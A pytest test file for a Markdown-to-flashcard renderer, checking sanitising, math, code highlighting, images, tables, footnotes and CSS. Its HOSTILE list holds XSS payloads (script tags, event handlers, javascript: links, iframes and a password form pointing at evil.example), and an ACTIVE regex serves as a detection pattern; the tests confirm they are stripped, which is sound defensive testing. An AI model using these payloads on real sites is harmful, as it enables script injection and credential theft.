"""Rendering a card's Markdown: sanitising, math, code highlighting, tables, images, CSS."""

from __future__ import annotations

import html
import re
import time

import pytest

from generator.highlight import highlight_css
from generator.media import finish_html
from generator.render import card_css, inline_html, markdown_html
from generator.sanitise import sanitise

# Anything that could run code, load something or restyle the card.
ACTIVE = re.compile(
    r"<\s*(script|iframe|frame|object|embed|link|style|svg|math|form|input|button|meta|base)\b"
    r"|\son[a-z]+\s*=|javascript:|vbscript:|data:|url\(|@import|\sstyle=\"(?!text-align)",
    re.IGNORECASE,
)

HOSTILE = [
    '<script>alert("x")</script>',
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<img src="x.png" onerror="alert(1)">',
    "<div onclick=\"alert('c')\" onmouseover=alert(2)>hi</div>",
    '<a href="javascript:alert(1)">a</a>',
    '<a href="JaVaScRiPt:alert(1)">a</a>',
    '<a href="&#106;avascript:alert(2)">a</a>',
    '<a href=" javascript:alert(3)">a</a>',
    '<a href="vbscript:msgbox(1)">a</a>',
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/e.swf">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<style>@import url("https://evil.example/y.css");</style>',
    "<span style=\"background:url('https://evil.example/t.png')\">t</span>",
    '<td style="text-align:left; background:url(https://evil.example/t.png)">t</td>',
    '<div style="position:fixed;top:0">overlay</div>',
    '<svg onload="alert(1)"><script>alert(2)</script></svg>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<math><mtext><script>alert(1)</script></mtext></math>",
    '<form action="https://evil.example/"><input name="pw"><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    "<template><script>alert(1)</script></template>",
]


@pytest.mark.parametrize("raw", HOSTILE)
def test_nothing_active_survives_sanitising(raw: str) -> None:
    assert ACTIVE.search(html.unescape(raw)), "the pattern must recognise the raw attack"
    out = markdown_html(f"- before {raw} after")
    assert not ACTIVE.search(out), out
    assert "before" in out and "after" in out


@pytest.mark.parametrize("raw", HOSTILE)
def test_nothing_active_in_a_term_either(raw: str) -> None:
    assert not ACTIVE.search(inline_html(f"Term {raw}"))


def test_script_text_is_dropped_not_shown() -> None:
    out = markdown_html('Text <script>alert("gone")</script> <style>.x{}</style>more')
    assert "alert" not in out and ".x{}" not in out


def test_allow_html_keeps_trusted_markup_but_still_maps_images() -> None:
    text = '<span style="color: red" onclick="f()">hot</span> <img src="a b.png">'
    out = markdown_html(text, lambda src: "0123-a_b.png" if src == "a b.png" else src, True)
    assert 'style="color: red"' in out and 'onclick="f()"' in out
    assert 'src="0123-a_b.png"' in out


def test_images_point_to_bundled_media_or_the_remote_url() -> None:
    bundled = {"pics/a.png": "aaaa-a.png"}
    text = (
        "![a](pics/a.png) ![r](https://example.org/r.png) ![m](pics/missing.png) "
        '<img src="../../etc/x.png" alt="outside">'
    )
    out = markdown_html(text, lambda src: bundled.get(src, src))
    assert re.findall(r'<img[^>]*src="([^"]*)"', out) == [
        "aaaa-a.png",
        "https://example.org/r.png",
    ]
    # Images that are not in the deck leave their alt text, marked as a picture.
    assert '<span class="nd-image-missing">[image: m]</span>' in out
    assert '<span class="nd-image-missing">[image: outside]</span>' in out
    assert "<img alt" not in out


@pytest.mark.parametrize(
    ("note", "shown"),
    [
        ("![the diagram](gone.png)", "[image: the diagram]"),
        ('<img src="gone.png" alt="a &lt;b&gt; c">', "[image: a &lt;b&gt; c]"),
        ("![](gone.png)", "[image]"),
        ("![[gone.png|300]]", "[image]"),
        ("![[gone.png|layers|300]]", "[image: layers]"),
    ],
)
def test_a_missing_image_looks_the_same_whichever_stage_drops_it(note: str, shown: str) -> None:
    """Sanitising drops an image the map does not know; `finish_html` one the media stage
    left without a file (mapped to ""): a learner sees one and the same stand-in."""
    by_sanitise = markdown_html(note, lambda src: src)
    by_media = finish_html(markdown_html(note, lambda src: ""))
    by_trusted = finish_html(markdown_html(note, lambda src: "", allow_html=True))
    expected = f'<span class="nd-image-missing">{shown}</span>'
    assert expected in by_sanitise
    assert by_sanitise == by_media
    assert expected in by_trusted and "<img" not in by_trusted
    assert ".nd-image-missing" in card_css()


def test_obsidian_sizes_set_width_and_height_and_other_text_is_alt() -> None:
    bundled = lambda src: f"b-{src}"  # noqa: E731
    out = markdown_html(
        "![[a.png|300]] ![[b.png|300x200]] ![[c.png|three hundred]] ![[d.png|big | 40]]", bundled
    )
    tags = re.findall(r"<img [^>]*>", out)
    assert tags == [
        '<img src="b-a.png" alt="" width="300">',
        '<img src="b-b.png" alt="" width="300" height="200">',
        '<img src="b-c.png" alt="three hundred">',
        '<img src="b-d.png" alt="big" width="40">',
    ]


def test_inline_and_display_math_become_anki_mathjax() -> None:
    out = markdown_html("Speed $v = d/t$ and $$E = mc^2$$ here\n\n$$\na < b\n$$\n")
    assert "\\(v = d/t\\)" in out
    assert "\\[E = mc^2\\]" in out
    assert "\\[a &lt; b\\]" in out
    assert "$" not in out
    assert 'class="nd-math nd-math-display"' in out


def test_code_is_highlighted_with_classes_and_no_script() -> None:
    out = markdown_html('```python\ndef f(x):\n    return "안녕" < x  # 주석\n```\n')
    assert out.startswith('<div class="nd-code"><pre>')
    assert '<span class="k">def</span>' in out
    assert '<span class="c1"># 주석</span>' in out
    assert "&lt;" in out and "<script" not in out


def test_unknown_language_and_indented_code_are_escaped_plain_text() -> None:
    out = markdown_html("```nosuchlang\n<b>x</b>\n```\n\n    <i>y</i>\n")
    assert out.count('<div class="nd-code"><pre><code>') == 2
    assert "&lt;b&gt;x&lt;/b&gt;" in out and "&lt;i&gt;y&lt;/i&gt;" in out


def test_a_pre_after_html_keeps_its_blank_lines_and_code() -> None:
    # A `<p>` line opens an HTML block that CommonMark ends at a blank line; inside `<pre>` the
    # blank line is code, so the block (and the code) goes on to `</pre>`.
    code = "<pre><code>switch(x){\n case 1:\n\n case 2: *y*\n}</code></pre>"
    out = markdown_html("<p><strong>switch</strong></p>\n" + code)
    assert out == "<p><strong>switch</strong></p>\n" + code
    inline = markdown_html("<li><p>case</p><pre><code>a\n\n- b</code></pre></li>")
    assert "<pre><code>a\n\n- b</code></pre>" in inline and "<ul>" not in inline


def test_a_blank_line_ends_the_html_block_only_outside_pre_and_comments() -> None:
    out = markdown_html("<div>one <!-- a\n\n*b* --> end</div>\n\n**two**")
    assert out == "<div>one  end</div>\n<p><strong>two</strong></p>"


def test_tables_keep_their_alignment_and_nothing_else() -> None:
    out = markdown_html("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |\n")
    assert '<th style="text-align:left">a</th>' in out
    assert '<td style="text-align:center">2</td>' in out
    assert '<td style="text-align:right">3</td>' in out


def test_nested_lists_and_links_survive() -> None:
    out = markdown_html("- a\n  - b\n    - [c](https://example.org/c)\n")
    assert out.count("<ul>") == 3
    assert '<a href="https://example.org/c" rel="noopener noreferrer">c</a>' in out


def test_sanitise_is_idempotent_on_its_own_output() -> None:
    once = markdown_html("| a |\n|--:|\n| **b** $x$ |\n\n```py\nx = 1\n```\n")
    assert sanitise(once) == once


def test_card_css_is_offline_and_has_night_mode() -> None:
    css = card_css()
    assert not re.search(r"url\(|@import|@font-face|https?://", css)
    for scope in (".nightMode", ".night_mode"):
        assert f"{scope} .card" in css and f".card{scope}" in css
        assert f"{scope} .nd-code .k" in css
    assert highlight_css() in css


def test_every_font_stack_ends_in_a_sans_or_mono_family_with_korean_first() -> None:
    """Korean text must never fall back to a serif: each stack names Korean sans faces before
    its generic family, and no stack ends in serif."""
    stacks = re.findall(r"font-family:\s*([^;]+);", card_css())
    assert stacks
    for stack in stacks:
        families = [f.strip().strip('"') for f in stack.split(",")]
        assert families[-1] in ("sans-serif", "monospace"), stack
        assert "serif" not in families
    body = [f.strip().strip('"') for f in stacks[0].split(",")]
    for korean in ("Apple SD Gothic Neo", "Noto Sans KR", "Noto Sans CJK KR", "Malgun Gothic"):
        assert korean in body
    assert body.index("Noto Sans CJK KR") < body.index("Noto Sans CJK JP")


@pytest.mark.parametrize(
    ("source", "bold"),
    [
        ("영역을 **다국어 기본 평면 (BMP)**이라고 한다.", "다국어 기본 평면 (BMP)"),
        ("문자열은 **Immutable(변경 불가능)**특성을 가진다", "Immutable(변경 불가능)"),
        ("이를 **스풀링(Spooling)**이라고 한다.", "스풀링(Spooling)"),
        ("**“공개 문서는 점검한다”**는 원칙", "“공개 문서는 점검한다”"),
        ("これは**「重要なこと」**です。", "「重要なこと」"),
        ("这是**我想做的事。**所以继续。", "我想做的事。"),
        ("**标签：**正文", "标签："),
    ],
)
def test_bold_closes_before_a_korean_particle_or_cjk_text(source: str, bold: str) -> None:
    html_out = markdown_html(source)
    assert f"<strong>{bold}</strong>" in html_out
    assert "**" not in html_out


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("foo**(bar)**baz", "foo**(bar)**baz"),  # CommonMark: no CJK beside the runs
        ("변수_이름_값", "변수_이름_값"),  # `_` inside a word is still no emphasis
        ("snake_case_name", "snake_case_name"),
        ("**bold** text and *it*", "<strong>bold</strong> text and <em>it</em>"),
        ("가~~(취소)~~나", "가<s>(취소)</s>나"),
    ],
)
def test_emphasis_elsewhere_follows_commonmark(source: str, expected: str) -> None:
    assert expected in markdown_html(source)


def test_an_obsidian_callout_shows_its_title_not_its_marker() -> None:
    out = markdown_html("> [!tip] Remember\n> A resolver asks other servers for you.")
    assert "[!tip]" not in out
    assert "<strong>Remember</strong>" in out
    assert "A resolver asks other servers for you." in out
    assert "<strong>Faq</strong>" in markdown_html("> [!faq]-\n> Why? Because.")


def test_a_wikilink_to_a_heading_of_the_same_note_shows_the_heading() -> None:
    assert markdown_html("See [[#Nested tags]].") == "<p>See Nested tags.</p>"
    assert markdown_html("See [[Page#Part|the part]].") == "<p>See the part.</p>"


def test_a_footnote_renders_as_a_numbered_note_under_the_answer() -> None:
    out = markdown_html(
        "Grids[^grid] and solvers[^2].\n\n[^grid]: A *regular* Cartesian grid.\n\n[^2]: Implicit."
    )
    assert "[^" not in out
    assert '<sup class="nd-fnref">1</sup>' in out and '<sup class="nd-fnref">2</sup>' in out
    notes = re.findall(r'<div class="nd-footnote"><sup>(\d)</sup><div>(.*?)</div></div>', out, re.S)
    assert [(n, re.sub(r"<[^>]+>", "", t).strip()) for n, t in notes] == [
        ("1", "A regular Cartesian grid."),
        ("2", "Implicit."),
    ]
    assert "href" not in out  # no jump links: Anki's reviewer would leave the card
    assert ".nd-footnote" in card_css()
    # Brackets that cite nothing the answer defines are text, as written.
    assert markdown_html("Match [^abc] once.") == "<p>Match [^abc] once.</p>"


def test_documentation_admonitions_show_as_a_titled_quote() -> None:
    mkdocs = markdown_html(
        '!!! note "Remember"\n    A resolver asks servers.\n\n    Then caches.\n\nAfter.'
    )
    assert "!!!" not in mkdocs and "<code>" not in mkdocs
    assert "<blockquote>\n<p><strong>Remember</strong></p>" in mkdocs
    assert "<p>Then caches.</p>\n</blockquote>\n<p>After.</p>" in mkdocs
    docusaurus = markdown_html(":::tip[Try it]\nRun `dig`.\n:::\n\nAfter")
    assert ":::" not in docusaurus and "<strong>Try it</strong>" in docusaurus
    assert "<strong>Warning</strong>" in markdown_html(":::warning\nCareful.\n:::")


def test_admonition_syntax_shown_in_code_or_left_open_stays_as_written() -> None:
    assert "!!! note" in markdown_html("```\n!!! note\n    code\n```")
    assert ":::note never closed" in markdown_html(":::note never closed\ntext")
    # A ``` line inside a ~~~ block is code: the admonition after it is still inside the block.
    tilde = markdown_html("~~~\n```\n!!! note\n    code\n~~~")
    assert "!!! note" in tilde and "<blockquote>" not in tilde


def test_unclosed_admonitions_take_time_in_proportion() -> None:
    from generator.admonitions import as_quotes

    def seconds(count: int) -> float:
        text = ":::note\ntext\n" * count
        started = time.perf_counter()
        as_quotes(text)
        return time.perf_counter() - started

    short, long = min(seconds(2_000) for _ in range(3)), min(seconds(16_000) for _ in range(3))
    assert long < 20 * max(short, 1e-4)  # 8x the text: linear, with room for noise
